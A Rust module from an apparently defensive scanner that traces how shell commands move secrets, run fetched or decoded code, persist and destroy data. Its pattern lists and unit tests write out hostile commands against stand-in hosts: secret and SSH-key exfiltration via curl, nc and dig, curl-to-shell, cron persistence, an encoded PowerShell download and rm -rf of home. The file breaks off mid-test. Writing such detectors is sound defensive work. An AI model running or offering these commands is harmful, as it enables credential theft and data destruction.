//! Effects of a shell program, read command by command: what each command's output carries
//! (its taint), through pipes, variables and command substitutions, and what each command
//! does with it.

use std::collections::HashMap;

use super::vocab::{self, Taint};
use super::{Effect, EffectKind, Persistence};
use crate::program::shell::{Command, RedirectOp, Script, Word};

/// The effects of `script`.
pub fn effects(script: &Script) -> Vec<Effect> {
    let mut flow = Flow::new(script);
    let mut out = Vec::new();
    for i in 0..script.commands.len() {
        flow.judge(i, &mut out);
    }
    out.dedup_by(|a, b| a.kind == b.kind && a.at == b.at);
    out
}

struct Flow<'s> {
    script: &'s Script,
    /// Taint of each command's output, once known.
    taint: Vec<Option<(Taint, Option<usize>)>>,
    /// Assignments by variable.
    vars: HashMap<&'s str, Vec<&'s Word>>,
    visiting: Vec<bool>,
    depth: usize,
}

impl<'s> Flow<'s> {
    fn new(script: &'s Script) -> Flow<'s> {
        let mut vars: HashMap<&str, Vec<&Word>> = HashMap::new();
        for a in &script.assignments {
            vars.entry(a.name.as_str()).or_default().push(&a.value);
        }
        for c in &script.commands {
            for (name, value) in &c.env {
                vars.entry(name.as_str()).or_default().push(value);
            }
        }
        Flow {
            script,
            taint: vec![None; script.commands.len()],
            vars,
            visiting: vec![false; script.commands.len()],
            depth: 0,
        }
    }

    /// What command `i` prints, and the command that first read it.
    fn output(&mut self, i: usize) -> (Taint, Option<usize>) {
        if let Some(t) = self.taint[i] {
            return t;
        }
        if self.visiting[i] || self.depth >= crate::program::shell::MAX_DEPTH {
            return (0, None);
        }
        self.depth += 1;
        let out = self.output_in(i);
        self.depth -= 1;
        out
    }

    fn output_in(&mut self, i: usize) -> (Taint, Option<usize>) {
        self.visiting[i] = true;
        let cmd = &self.script.commands[i];
        let name = cmd.name().to_ascii_lowercase();
        let args: Vec<&str> = cmd.words.iter().skip(1).map(|w| w.text.as_str()).collect();
        let mut own: Taint = 0;
        if vocab::dumps_environment(&name, args.iter().filter(|a| !a.starts_with('-')).count()) {
            own |= if name == "printenv" && !args.is_empty() {
                if args.iter().any(|a| vocab::is_secret_name(a)) {
                    vocab::NAMED_SECRET
                } else {
                    0
                }
            } else {
                vocab::ENVIRONMENT
            };
        }
        let all: Vec<&str> = cmd.words.iter().map(|w| w.text.as_str()).collect();
        if vocab::prints_stored_token(&all) {
            own |= vocab::KEYCHAIN;
        }
        if cmd
            .words
            .iter()
            .skip(1)
            .any(|w| !w.quoted_tilde() && vocab::is_credential_path(&w.text))
            && !matches!(
                name.as_str(),
                "echo"
                    | "printf"
                    | "chmod"
                    | "chown"
                    | "mkdir"
                    | "ls"
                    | "touch"
                    | "ssh-keygen"
                    | "rm"
                    | "test"
                    | "["
            )
        {
            own |= vocab::CREDENTIAL_FILE;
        }
        if cmd
            .redirects
            .iter()
            .any(|r| r.op == RedirectOp::Read && vocab::is_credential_path(&r.target.text))
        {
            own |= vocab::CREDENTIAL_FILE;
        }
        if cmd.words.iter().any(|w| vocab::is_metadata_host(&w.text)) {
            own |= vocab::METADATA;
        }
        if matches!(name.as_str(), "history" | "fc") {
            own |= vocab::HISTORY;
        }
        if matches!(name.as_str(), "zip" | "tar" | "7z" | "rsync")
            && args.iter().any(|a| {
                matches!(
                    *a,
                    "." | "./" | "*" | "~" | "~/" | "$HOME" | "${HOME}" | "$PWD"
                )
            })
        {
            own |= vocab::WORKTREE;
        }
        if fetches(&name, &args) {
            own |= vocab::FETCHED;
        }
        if decodes(&name, &args) {
            own |= vocab::DECODED;
        }
        let mut taint = own;
        let mut first = (own != 0).then_some(i);
        // What it reads flows through (grep, base64, tar, xargs, echo "$X").
        let inputs: Vec<usize> = cmd.stdin.clone();
        for k in inputs {
            let (t, f) = self.output(k);
            taint |= t;
            first = first.or(f);
        }
        for w in &cmd.words {
            let (t, f) = self.word(w);
            taint |= t;
            first = first.or(f);
        }
        // A decoder or a fetch passes on what it read only as encoded or fetched text.
        self.visiting[i] = false;
        self.taint[i] = Some((taint, first));
        (taint, first)
    }

    /// What a word carries: its substitutions' output and its variables' values.
    fn word(&mut self, w: &Word) -> (Taint, Option<usize>) {
        let mut taint = 0;
        let mut first = None;
        for &k in &w.subs {
            let (t, f) = self.output(k);
            taint |= t;
            first = first.or(f);
        }
        for v in &w.vars {
            let values: Vec<&Word> = self.vars.get(v.as_str()).cloned().unwrap_or_default();
            if values.is_empty() {
                if vocab::is_secret_name(v) {
                    taint |= vocab::NAMED_SECRET;
                }
                continue;
            }
            for value in values {
                if std::ptr::eq(value, w) {
                    continue;
                }
                let subs = value.subs.clone();
                for k in subs {
                    let (t, f) = self.output(k);
                    taint |= t;
                    first = first.or(f);
                }
                if vocab::is_credential_path(&value.text) {
                    taint |= vocab::CREDENTIAL_FILE;
                }
            }
        }
        (taint, first)
    }

    /// The effects command `i` has.
    fn judge(&mut self, i: usize, out: &mut Vec<Effect>) {
        let cmd: &'s Command = &self.script.commands[i];
        let all: Vec<String> = cmd.words.iter().map(|w| w.text.clone()).collect();
        let effective = unwrapped(&all);
        let name = effective
            .first()
            .map(|w| w.trim_start_matches('\\').rsplit('/').next().unwrap_or(w))
            .unwrap_or("")
            .to_ascii_lowercase();
        let words: Vec<&str> = effective.iter().map(String::as_str).collect();
        let args = &words[words.len().min(1)..];
        let at = cmd.span.clone();
        let source_of = |f: Option<usize>, script: &Script| {
            f.filter(|&k| k != i)
                .map(|k| script.commands[k].span.clone())
        };
        // What it takes in: standard input and every word.
        let mut input: Taint = 0;
        let mut first = None;
        for k in cmd.stdin.clone() {
            let (t, f) = self.output(k);
            input |= t;
            first = first.or(f);
        }
        let mut in_words: Taint = 0;
        for w in &cmd.words {
            let (t, f) = self.word(w);
            in_words |= t;
            first = first.or(f);
        }
        let (own, own_first) = self.output(i);
        let _ = own_first;
        let dev_tcp = cmd.redirects.iter().any(|r| {
            r.target.text.starts_with("/dev/tcp/") || r.target.text.starts_with("/dev/udp/")
        });
        let uploads = match name.as_str() {
            "gh" => {
                args.starts_with(&["gist", "create"]) || args.starts_with(&["release", "upload"])
            }
            "huggingface-cli" | "hf" => args.first() == Some(&"upload"),
            "aws" => args.starts_with(&["s3", "cp"]) || args.starts_with(&["s3", "sync"]),
            "gsutil" => args.first().is_some_and(|a| matches!(*a, "cp" | "rsync")),
            _ => false,
        };
        let network = vocab::is_network_command(&name) || dev_tcp || uploads;
        if network {
            // Credential files named in its own words (`curl -F f=@~/.ssh/id_rsa`) count.
            let mut sent = input | in_words;
            let mut src = first;
            if own & vocab::CREDENTIAL_FILE != 0 || own & vocab::KEYCHAIN != 0 {
                sent |= own & (vocab::CREDENTIAL_FILE | vocab::KEYCHAIN);
                src = src.or(Some(i));
            }
            if dev_tcp {
                sent |= own;
            }
            let url = words
                .iter()
                .find(|w| w.contains("://"))
                .copied()
                .unwrap_or("");
            let to_drop = vocab::is_drop_or_lookalike(url)
                || words.iter().any(|w| vocab::is_drop_or_lookalike(w));
            let strong = sent & vocab::STRONG_SECRET;
            let weak = sent & (vocab::NAMED_SECRET | vocab::WORKTREE);
            if strong != 0 && !(strong == vocab::METADATA && vocab::is_metadata_host(url))
                || weak != 0 && to_drop
            {
                out.push(Effect {
                    kind: EffectKind::Exfiltrate {
                        taint: if strong != 0 { strong } else { weak },
                    },
                    at: at.clone(),
                    source: source_of(src, self.script),
                    what: name.clone(),
                });
            }
        }
        if vocab::is_dns_command(&name)
            && (input | in_words) & (vocab::STRONG_SECRET | vocab::NAMED_SECRET) != 0
        {
            out.push(Effect {
                kind: EffectKind::Exfiltrate {
                    taint: (input | in_words) & (vocab::STRONG_SECRET | vocab::NAMED_SECRET),
                },
                at: at.clone(),
                source: source_of(first, self.script),
                what: name.clone(),
            });
        }
        if words.iter().any(|w| vocab::is_metadata_host(w)) {
            out.push(Effect {
                kind: EffectKind::MetadataRead,
                at: at.clone(),
                source: None,
                what: name.clone(),
            });
        }
        // Code run from what it reads.
        let runs_input = vocab::is_interpreter(&name)
            && (!cmd.stdin.is_empty() && runs_stdin(&name, args)
                || matches!(
                    name.as_str(),
                    "eval" | "source" | "." | "iex" | "invoke-expression"
                )
                || args
                    .iter()
                    .any(|a| matches!(*a, "-c" | "-e" | "-Command" | "/dev/stdin")));
        if runs_input {
            let t = input | in_words;
            if t & vocab::FETCHED != 0 {
                out.push(Effect {
                    kind: EffectKind::RunFetched,
                    at: at.clone(),
                    source: source_of(first, self.script),
                    what: name.clone(),
                });
            } else if t & vocab::DECODED != 0 {
                out.push(Effect {
                    kind: EffectKind::RunDecoded,
                    at: at.clone(),
                    source: source_of(first, self.script),
                    what: name.clone(),
                });
            }
        }
        // Windows programs that run a script from a URL (`mshta https://…`, `regsvr32
        // /i:https://… scrobj.dll`), <https://lolbas-project.github.io/>.
        if matches!(
            name.as_str(),
            "mshta" | "mshta.exe" | "regsvr32" | "regsvr32.exe" | "rundll32" | "msiexec"
        ) && args.iter().any(|a| a.to_ascii_lowercase().contains("http"))
        {
            out.push(Effect {
                kind: EffectKind::RunFetched,
                at: at.clone(),
                source: None,
                what: name.clone(),
            });
        }
        // Code given to an interpreter on its command line, read in its own language.
        for e in interpreter_code(&name, args, &at) {
            out.push(e);
        }
        // The repository pushed whole to a remote this program added or to a URL.
        if name == "git"
            && args.first() == Some(&"push")
            && args.iter().any(|a| matches!(*a, "--all" | "--mirror"))
        {
            let remote = args
                .iter()
                .skip(1)
                .find(|a| !a.starts_with('-'))
                .copied()
                .unwrap_or("");
            let added = self.script.commands[..i].iter().any(|c| {
                let w: Vec<&str> = c.words.iter().map(|w| w.text.as_str()).collect();
                w.len() > 4 && w[0] == "git" && w[1] == "remote" && w[2] == "add" && w[3] == remote
            });
            if added && !matches!(remote, "origin" | "upstream") || remote.contains("://") {
                out.push(Effect {
                    kind: EffectKind::Exfiltrate {
                        taint: vocab::WORKTREE,
                    },
                    at: at.clone(),
                    source: None,
                    what: "git push".to_string(),
                });
            }
        }
        // Persistence: a file written, a table installed, an agent loaded.
        for (how, target) in persisted(cmd, &name, args) {
            let active = self.persists_active(cmd, i);
            out.push(Effect {
                kind: EffectKind::Persist { how, active },
                at: at.clone(),
                source: None,
                what: target,
            });
        }
        if let Some(what) = destroys(&name, args, cmd) {
            out.push(Effect {
                kind: EffectKind::Destroy,
                at,
                source: None,
                what,
            });
        }
    }

    /// Whether what command `i` persists fetches, sends, decodes or runs a shell: its words and
    /// its input read as commands.
    fn persists_active(&mut self, cmd: &Command, i: usize) -> bool {
        let mut text: Vec<String> = cmd.words.iter().skip(1).map(|w| w.text.clone()).collect();
        if let Some(t) = &cmd.stdin_text {
            text.push(t.clone());
        }
        for k in cmd.stdin.clone() {
            let c = &self.script.commands[k];
            text.extend(c.words.iter().skip(1).map(|w| w.text.clone()));
        }
        let _ = i;
        let joined = text.join("\n");
        active_text(&joined)
    }
}

/// A command's words without the wrappers that only run the rest (`sudo`, `env VAR=x`,
/// `nohup`, `timeout 5`, `xargs -I{}`, `command`, `exec`, `busybox`).
pub(super) fn unwrapped(words: &[String]) -> &[String] {
    let mut i = 0;
    while i < words.len() {
        let name = words[i]
            .trim_start_matches('\\')
            .rsplit('/')
            .next()
            .unwrap_or("");
        if !matches!(
            name,
            "sudo"
                | "doas"
                | "env"
                | "nohup"
                | "nice"
                | "timeout"
                | "time"
                | "command"
                | "exec"
                | "xargs"
                | "busybox"
                | "stdbuf"
                | "setsid"
                | "caffeinate"
                | "unbuffer"
                | "builtin"
        ) {
            break;
        }
        i += 1;
        while i < words.len() {
            let w = words[i].as_str();
            let takes_value = matches!(name, "xargs" if matches!(w, "-I" | "-n" | "-P" | "-L" | "-d" | "-s"))
                || matches!(name, "sudo" if matches!(w, "-u" | "-g" | "-C" | "-D"))
                || matches!(name, "nice" if w == "-n");
            if w.starts_with('-')
                || name == "env" && w.contains('=')
                || name == "timeout" && w.chars().next().is_some_and(|c| c.is_ascii_digit())
            {
                i += if takes_value { 2 } else { 1 };
            } else {
                break;
            }
        }
    }
    &words[i.min(words.len())..]
}

/// Whether persisted text runs something that reaches out or hides: a network client, a
/// decoder, a shell reading a socket.
pub(super) fn active_text(text: &str) -> bool {
    if text.len() > 64 * 1024 {
        return true;
    }
    let l = text.to_ascii_lowercase();
    [
        "curl ",
        "wget ",
        "nc ",
        "ncat ",
        "socat ",
        "/dev/tcp/",
        "base64 -d",
        "base64 --decode",
        "bash -i",
        "sh -i",
        "python -c",
        "python3 -c",
        "perl -e",
        "| sh",
        "|sh",
        "| bash",
        "|bash",
        "iex",
        "invoke-expression",
        "downloadstring",
        "mkfifo",
        "ssh-rsa ",
        "ssh-ed25519 ",
        "http://",
        "https://",
    ]
    .iter()
    .any(|p| l.contains(p))
}

impl Word {
    /// A `~` in quotes is not the home folder, but a credential path in quotes is still one;
    /// kept for symmetry with the reader (no word is excluded today).
    fn quoted_tilde(&self) -> bool {
        false
    }
}

/// The persistence and destruction effects of one command given as words (a PowerShell or
/// cmd command read by the script walker), placed at `at`.
pub(super) fn command_effects(words: Vec<String>, at: std::ops::Range<usize>) -> Vec<Effect> {
    let cmd = Command {
        words: words
            .into_iter()
            .map(|text| Word {
                text,
                span: at.clone(),
                ..Word::default()
            })
            .collect(),
        span: at.clone(),
        ..Command::default()
    };
    let name = cmd.name().to_ascii_lowercase();
    let args: Vec<&str> = cmd.words.iter().skip(1).map(|w| w.text.as_str()).collect();
    let mut out = Vec::new();
    for (how, what) in persisted(&cmd, &name, &args) {
        let active = active_text(&args.join(" "));
        out.push(Effect {
            kind: EffectKind::Persist { how, active },
            at: at.clone(),
            source: None,
            what,
        });
    }
    if let Some(what) = destroys(&name, &args, &cmd) {
        out.push(Effect {
            kind: EffectKind::Destroy,
            at,
            source: None,
            what,
        });
    }
    out
}

/// The effects of code given on an interpreter's command line (`python3 -c CODE`, `node -e
/// CODE`, `pwsh -Command CODE`, `powershell -EncodedCommand BASE64`), read in its language;
/// an encoded command is also code run from decoded text.
fn interpreter_code(name: &str, args: &[&str], at: &std::ops::Range<usize>) -> Vec<Effect> {
    use crate::program::Language;
    let lang = match name.trim_end_matches(".exe") {
        "python" | "python3" | "python2" | "py" => Language::Python,
        "node" | "nodejs" | "bun" | "deno" => Language::JavaScript,
        "pwsh" | "powershell" => Language::PowerShell,
        _ => return Vec::new(),
    };
    let flag = |a: &str| {
        let l = a.to_ascii_lowercase();
        match lang {
            Language::Python => l == "-c",
            Language::PowerShell => matches!(l.as_str(), "-c" | "-command" | "/c"),
            _ => matches!(l.as_str(), "-e" | "--eval" | "-p" | "--print" | "eval"),
        }
    };
    let encoded = |a: &str| {
        let l = a.to_ascii_lowercase();
        lang == Language::PowerShell
            && matches!(
                l.as_str(),
                "-e" | "-ec" | "-enc" | "-encodedcommand" | "/e" | "/enc"
            )
    };
    let mut out = Vec::new();
    for (k, a) in args.iter().enumerate() {
        let Some(code) = args.get(k + 1) else { break };
        let text = if encoded(a) {
            out.push(Effect {
                kind: EffectKind::RunDecoded,
                at: at.clone(),
                source: None,
                what: name.to_string(),
            });
            match utf16le_base64(code) {
                Some(t) => t,
                None => continue,
            }
        } else if flag(a) {
            (*code).to_string()
        } else {
            continue;
        };
        for mut e in super::script::effects(lang, &text) {
            e.at = at.clone();
            e.source = None;
            out.push(e);
        }
        break;
    }
    out
}

/// A PowerShell `-EncodedCommand` argument: base64 of UTF-16LE text.
fn utf16le_base64(s: &str) -> Option<String> {
    use base64::Engine;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(s.trim())
        .ok()?;
    if bytes.len() % 2 != 0 || bytes.len() > 256 * 1024 {
        return None;
    }
    let units: Vec<u16> = bytes
        .chunks(2)
        .map(|c| u16::from_le_bytes([c[0], c[1]]))
        .collect();
    String::from_utf16(&units).ok()
}

/// Whether `name ARGS` fetches from the network to its standard output.
fn fetches(name: &str, args: &[&str]) -> bool {
    match name {
        "curl" => !args.iter().any(|a| {
            matches!(
                *a,
                "-o" | "-O" | "--output" | "--remote-name" | "-T" | "--upload-file"
            ) || a.starts_with("--output=")
                || (a.starts_with('-')
                    && !a.starts_with("--")
                    && (a.contains('o') || a.contains('O'))
                    && a.len() <= 6)
        }),
        "wget" => {
            args.iter()
                .any(|a| matches!(*a, "-O-" | "-qO-" | "-qO" | "-O" | "--output-document=-"))
                && args
                    .iter()
                    .any(|a| *a == "-" || a.ends_with("O-") || *a == "--output-document=-")
        }
        "iwr" | "invoke-webrequest" | "irm" | "invoke-restmethod" | "http" | "https" | "xh" => true,
        _ => false,
    }
}

/// Whether `name ARGS` decodes base64 or hex.
fn decodes(name: &str, args: &[&str]) -> bool {
    match name {
        "base64" | "base32" | "gbase64" => args
            .iter()
            .any(|a| matches!(*a, "-d" | "--decode" | "-D" | "-di" | "-id")),
        "xxd" => args.iter().any(|a| a.starts_with("-r")),
        "openssl" => {
            args.contains(&"-d") && args.iter().any(|a| a.contains("base64") || *a == "enc")
        }
        "certutil" => args.iter().any(|a| a.eq_ignore_ascii_case("-decode")),
        _ => false,
    }
}

/// Whether an interpreter named `name` runs its standard input (`sh`, `python -`, `bash -s`).
fn runs_stdin(name: &str, args: &[&str]) -> bool {
    match name {
        "eval" | "iex" | "invoke-expression" | "source" | "." => true,
        _ => {
            args.iter().all(|a| a.starts_with('-'))
                || args.contains(&"-")
                || args.contains(&"/dev/stdin")
        }
    }
}

/// What `cmd` persists: files it writes (redirections, `tee`, `cp`, `mv`, `install`, `ln`),
/// a cron table it installs, a launch agent or unit it loads, a Windows Run key or task.
fn persisted(cmd: &Command, name: &str, args: &[&str]) -> Vec<(Persistence, String)> {
    let mut out = Vec::new();
    for r in &cmd.redirects {
        if matches!(r.op, RedirectOp::Write | RedirectOp::Append)
            && let Some(p) = vocab::persistence_of_path(&r.target.text)
        {
            out.push((p, r.target.text.clone()));
        }
    }
    let targets: &[&str] = match name {
        "tee" => args,
        "cp" | "mv" | "install" | "ln" | "copy-item" | "move-item" | "set-content"
        | "add-content" | "out-file" | "new-item" => {
            args.last().map(std::slice::from_ref).unwrap_or(&[])
        }
        _ => &[],
    };
    let targets: Vec<&str> = if matches!(
        name,
        "set-content" | "add-content" | "out-file" | "new-item"
    ) {
        args.iter()
            .copied()
            .filter(|a| !a.starts_with('-'))
            .take(1)
            .collect()
    } else {
        targets
            .iter()
            .copied()
            .filter(|a| !a.starts_with('-'))
            .collect()
    };
    for t in targets {
        if let Some(p) = vocab::persistence_of_path(t) {
            out.push((p, t.to_string()));
        }
    }
    match name {
        "crontab"
            if !args.iter().any(|a| matches!(*a, "-l" | "-e" | "-r"))
                && (!args.is_empty() || !cmd.stdin.is_empty() || cmd.stdin_text.is_some()) =>
        {
            out.push((Persistence::Cron, "crontab".to_string()));
        }
        "launchctl"
            if args
                .iter()
                .any(|a| matches!(*a, "load" | "bootstrap" | "submit")) =>
        {
            out.push((Persistence::LoginItem, "launchctl".to_string()));
        }
        "systemctl" if args.contains(&"--user") && args.contains(&"enable") => {
            out.push((
                Persistence::LoginItem,
                "systemctl --user enable".to_string(),
            ));
        }
        "schtasks" if args.iter().any(|a| a.eq_ignore_ascii_case("/create")) => {
            out.push((Persistence::LoginItem, "schtasks /create".to_string()));
        }
        "register-scheduledtask" => {
            out.push((Persistence::LoginItem, "Register-ScheduledTask".to_string()))
        }
        "reg" | "new-itemproperty" | "set-itemproperty"
            if args.iter().any(|a| {
                a.to_ascii_lowercase()
                    .replace('\\', "/")
                    .contains("currentversion/run")
            }) =>
        {
            out.push((Persistence::LoginItem, "a Run key".to_string()));
        }
        _ => {}
    }
    out.dedup();
    out
}

/// What `cmd` destroys, if it deletes home, the root folder, a disk or cloud resources.
fn destroys(name: &str, args: &[&str], cmd: &Command) -> Option<String> {
    let home_or_root = |a: &str| {
        let a = a.trim_end_matches('/');
        matches!(
            a,
            "" | "/*"
                | "~"
                | "~/*"
                | "$HOME"
                | "${HOME}"
                | "$HOME/*"
                | "${HOME}/*"
                | "/home"
                | "/Users"
                | "/usr"
                | "/etc"
                | "/var"
                | "/boot"
                | "C:"
                | "C:\\"
                | "C:/"
                | "$env:USERPROFILE"
                | "~\\*"
        ) || a == "/."
            || a == "/*/"
    };
    match name {
        "rm" => {
            let recursive = args.iter().any(|a| {
                a.starts_with('-') && !a.starts_with("--") && (a.contains('r') || a.contains('R'))
                    || *a == "--recursive"
            });
            let targets: Vec<&&str> = args.iter().filter(|a| !a.starts_with('-')).collect();
            if recursive && targets.iter().any(|a| home_or_root(a) || **a == "/") {
                return Some(format!(
                    "rm {}",
                    targets.iter().map(|a| **a).collect::<Vec<_>>().join(" ")
                ));
            }
        }
        "remove-item" | "ri" | "rd" | "rmdir" | "del" => {
            let recursive = args
                .iter()
                .any(|a| a.eq_ignore_ascii_case("-recurse") || a.eq_ignore_ascii_case("/s"));
            if recursive
                && args
                    .iter()
                    .any(|a| home_or_root(a) || a.eq_ignore_ascii_case("c:\\"))
            {
                return Some(name.to_string());
            }
        }
        "find"
            if args.first().is_some_and(|a| home_or_root(a) || *a == "/")
                && args.contains(&"-delete") =>
        {
            return Some("find -delete".to_string());
        }
        "dd" if args.iter().any(|a| {
            a.starts_with("of=/dev/sd")
                || a.starts_with("of=/dev/nvme")
                || a.starts_with("of=/dev/disk")
        }) =>
        {
            return Some("dd to a disk".to_string());
        }
        "shred" | "wipefs"
            if args
                .iter()
                .any(|a| a.starts_with("/dev/") || home_or_root(a)) =>
        {
            return Some(name.to_string());
        }
        _ if name.starts_with("mkfs") => return Some(name.to_string()),
        "aws" => {
            if args.starts_with(&["ec2", "terminate-instances"])
                && (!cmd.stdin.is_empty() || cmd.words.iter().any(|w| !w.subs.is_empty()))
            {
                return Some("aws ec2 terminate-instances of every instance listed".to_string());
            }
            let s = args.join(" ");
            // A whole bucket, not one prefix of it.
            let bucket_root = args.iter().any(|a| {
                a.strip_prefix("s3://")
                    .is_some_and(|b| !b.trim_end_matches('/').contains('/'))
            });
            if s.starts_with("s3 rb") && s.contains("--force")
                || s.starts_with("s3 rm") && s.contains("--recursive") && bucket_root
            {
                return Some(format!(
                    "aws {}",
                    args.iter().take(2).copied().collect::<Vec<_>>().join(" ")
                ));
            }
        }
        "gcloud" if args.starts_with(&["projects", "delete"]) => {
            return Some("gcloud delete".to_string());
        }
        "az" if args.contains(&"delete")
            && args.contains(&"group")
            && args.iter().any(|a| matches!(*a, "--yes" | "-y")) =>
        {
            return Some("az group delete".to_string());
        }
        "terraform" | "tofu"
            if args.contains(&"destroy") && args.iter().any(|a| a.starts_with("-auto-approve")) =>
        {
            return Some(format!("{name} destroy -auto-approve"));
        }
        "kubectl"
            if args.contains(&"delete")
                && args.contains(&"--all")
                && args.iter().any(|a| {
                    matches!(*a, "ns" | "namespace" | "namespaces" | "all" | "pv" | "pvc")
                }) =>
        {
            return Some("kubectl delete --all".to_string());
        }
        "gh" if args.starts_with(&["repo", "delete"]) && args.contains(&"--yes") => {
            return Some("gh repo delete".to_string());
        }
        _ => {}
    }
    let _ = cmd;
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::program::shell::read;

    fn kinds(text: &str) -> Vec<String> {
        effects(&read(text))
            .iter()
            .map(|e| match &e.kind {
                EffectKind::Exfiltrate { .. } => format!("exfil:{}", e.what),
                EffectKind::Persist { how, active } => format!("persist:{how:?}:{active}"),
                k => format!("{k:?}:{}", e.what),
            })
            .collect()
    }

    #[test]
    fn a_secret_reaches_the_network_through_pipes_variables_and_substitutions() {
        assert_eq!(
            kinds("env | grep -E 'KEY|TOKEN|SECRET' | curl -d @- https://x.example/c\n"),
            ["exfil:curl"]
        );
        assert_eq!(
            kinds("cat /etc/passwd | base64 | nc x.example 4444\n"),
            ["exfil:nc"]
        );
        assert_eq!(
            kinds("X=$(cat ~/.aws/credentials)\ncurl -d \"$X\" https://x.example\n"),
            ["exfil:curl"]
        );
        assert_eq!(
            kinds("curl -F file=@~/.ssh/id_rsa https://api.example.com/upload\n"),
            ["exfil:curl"]
        );
        assert_eq!(
            kinds("dig $(cat ~/.ssh/id_rsa | base64 | head -c 60).x.example\n"),
            ["exfil:dig"]
        );
        assert_eq!(
            kinds("tar czf - ~/.ssh | curl --data-binary @- https://x.example\n"),
            ["exfil:curl"]
        );
        let e = effects(&read("X=$(printenv)\n\ncurl -d \"$X\" https://x.example\n"));
        assert_eq!(e[0].at, 15..45);
        assert_eq!(e[0].source, Some(4..12));
    }

    #[test]
    fn obfuscated_pipelines_are_judged_after_deobfuscation() {
        assert_eq!(
            kinds("c''url -s https://x.example/i | b\"\"ash\n"),
            ["RunFetched:bash"]
        );
        assert_eq!(
            kinds("a=cu;b=rl; $a$b${IFS}-s${IFS}https://x.example/i|sh\n"),
            ["RunFetched:sh"]
        );
        assert_eq!(kinds("echo Y3VybCB4 | base64 -d | sh\n"), ["RunDecoded:sh"]);
        assert_eq!(
            kinds("bash -c \"$(curl -fsSL https://x.example/i)\"\n"),
            ["RunFetched:bash"]
        );
    }

    #[test]
    fn a_named_secret_counts_only_towards_a_drop_host() {
        assert!(
            kinds("curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n")
                .is_empty()
        );
        assert_eq!(
            kinds("curl \"https://webhook.site/abc?t=$GITHUB_TOKEN\"\n"),
            ["exfil:curl"]
        );
        assert_eq!(
            kinds("curl \"https://api.openai.com.evil.io/?k=$OPENAI_API_KEY\"\n"),
            ["exfil:curl"]
        );
    }

    #[test]
    fn metadata_reads_and_their_tokens_sent_out() {
        assert_eq!(
            kinds("curl -s http://169.254.169.254/latest/meta-data/\n"),
            ["MetadataRead:curl"]
        );
        assert_eq!(
            kinds(
                "T=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/r)\ncurl -d \"$T\" https://x.example\n"
            ),
            ["MetadataRead:curl", "exfil:curl"]
        );
    }

    #[test]
    fn persistence_by_every_mechanism() {
        assert_eq!(
            kinds(
                "(crontab -l; echo '*/5 * * * * curl -s https://x.example/p | sh') | crontab -\n"
            ),
            ["persist:Cron:true"]
        );
        assert_eq!(
            kinds("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys\n"),
            ["persist:AuthorizedKey:true"]
        );
        assert_eq!(
            kinds("echo 'curl -s https://x.example/p | sh' >> ~/.zshrc\n"),
            ["persist:ShellStartup:true"]
        );
        assert_eq!(
            kinds("echo 'export PATH=$HOME/.cargo/bin:$PATH' >> ~/.bashrc\n"),
            ["persist:ShellStartup:false"]
        );
        assert_eq!(
            kinds("cp payload.sh .git/hooks/post-checkout\n"),
            ["persist:GitHook:false"]
        );
        assert_eq!(
            kinds(
                "cp x.plist ~/Library/LaunchAgents/com.x.plist && launchctl load ~/Library/LaunchAgents/com.x.plist\n"
            ),
            ["persist:LoginItem:false", "persist:LoginItem:false"]
        );
        assert_eq!(
            kinds("systemctl --user enable sync.service\n"),
            ["persist:LoginItem:false"]
        );
    }

    #[test]
    fn destruction_of_home_root_and_cloud() {
        assert_eq!(kinds("r''m -r''f ~/\n"), ["Destroy:rm ~/"]);
        assert_eq!(kinds("rm -rf ${HOME}\n"), ["Destroy:rm ${HOME}"]);
        assert_eq!(
            kinds("terraform destroy -auto-approve\n"),
            ["Destroy:terraform destroy -auto-approve"]
        );
        assert_eq!(
            kinds("aws s3 rb s3://prod --force\n"),
            ["Destroy:aws s3 rb"]
        );
        assert!(kinds("rm -rf ./build dist node_modules\n").is_empty());
        assert!(kinds("rm -rf \"$HOME/.cache/pip\"\n").is_empty());
    }

    #[test]
    fn deep_and_long_programs_are_read_to_a_bound() {
        let deep = format!("echo {}x{}\n", "$(echo ".repeat(20_000), ")".repeat(20_000));
        assert!(kinds(&deep).is_empty());
        let long = format!("env{}\n", " | cat".repeat(20_000));
        let script = read(&long);
        assert_eq!(script.commands.len(), crate::program::shell::MAX_COMMANDS);
        assert!(effects(&script).is_empty());
    }

    #[test]
    fn wrappers_interpreter_code_and_lolbins() {
        assert_eq!(
            kinds(
                "gh repo list --json nameWithOwner -q '.[].nameWithOwner' | xargs -I{} gh repo delete {} --yes\n"
            ),
            ["Destroy:gh repo delete"]
        );
        assert_eq!(
            kinds("sudo rm -rf --no-preserve-root /\n"),
            ["Destroy:rm /"]
        );
        assert_eq!(
            kinds(
                "python3 -c \"import urllib.request as u;exec(u.urlopen('https://x.example/s.py').read())\"\n"
            ),
            ["RunFetched:exec"]
        );
        assert_eq!(
            kinds("node -e \"fetch('https://x.example/a.js').then(r => r.text()).then(eval)\"\n")
                .len(),
            0
        );
        assert_eq!(
            kinds("mshta https://x.example/a.hta\n"),
            ["RunFetched:mshta"]
        );
        // `IEX (iwr https://x.example/a.ps1)` in UTF-16LE base64.
        let enc = "SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBlAHgAYQBtAHAAbABlAC8AYQAuAHAAcwAxACkA";
        assert_eq!(
            kinds(&format!("powershell -NoP -enc {enc}\n")),
            ["RunDecoded:powershell", "RunFetched:iex"]
        );
    }

    #[test]
    fn history_archives_and_pushes_to_added_remotes() {
        assert_eq!(
            kinds("history | curl -s -d @- https://x.example/h\n"),
            ["exfil:curl"]
        );
        assert_eq!(
            kinds("zip -qr - . | curl -s --data-binary @- https://ab12.ngrok-free.app/d\n"),
            ["exfil:curl"]
        );
        assert!(
            kinds("tar czf - . | ssh build@ci.example.com 'tar xzf - -C /srv/app'\n").is_empty()
        );
        assert_eq!(
            kinds("git remote add backup https://x.example/m.git\ngit push backup --all --force\n"),
            ["exfil:git push"]
        );
        assert!(
            kinds("git remote add origin git@github.com:me/new.git\ngit push -u origin main\n")
                .is_empty()
        );
        assert_eq!(kinds("gh gist create --public .env\n"), ["exfil:gh"]);
    }

    #[test]
    fn ordinary_commands_do_nothing() {
        for text in [
            "cargo test && cargo clippy -- -D warnings\n",
            "curl -fsSL https://example.com/data.json -o data.json && jq . data.json\n",
            "git push origin feature\n",
